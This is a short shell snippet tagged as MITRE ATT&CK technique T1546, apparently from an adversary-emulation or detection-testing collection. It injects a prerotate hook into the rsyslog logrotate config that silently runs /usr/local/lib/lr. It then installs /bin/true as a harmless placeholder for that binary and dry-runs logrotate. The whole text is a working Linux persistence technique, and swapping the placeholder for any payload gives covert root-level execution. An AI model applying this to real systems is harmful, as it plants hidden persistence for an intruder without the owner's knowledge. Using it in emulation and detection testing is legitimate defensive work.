# technique: T1546
# location: linux.hook.logrotate
# source: /etc/logrotate.d/rsyslog
sed -i 's#^\(\s*\)postrotate#\1prerotate\n\1\1/usr/local/lib/lr 2>/dev/null\n\1endscript\n&#' /etc/logrotate.d/rsyslog
install -m 755 /bin/true /usr/local/lib/lr
logrotate -d /etc/logrotate.d/rsyslog
